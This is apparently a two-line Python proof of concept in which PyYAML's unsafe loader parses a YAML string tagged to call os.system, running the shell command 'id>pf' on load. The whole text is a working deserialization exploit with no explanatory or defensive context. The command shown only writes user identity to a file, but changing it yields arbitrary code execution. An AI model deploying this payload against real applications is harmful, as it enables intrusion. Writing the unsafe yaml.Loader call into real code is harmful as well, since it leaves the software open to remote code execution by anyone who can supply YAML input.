import yaml
yaml.load("!!python/object/new:os.system [id>pf]", Loader=yaml.Loader)
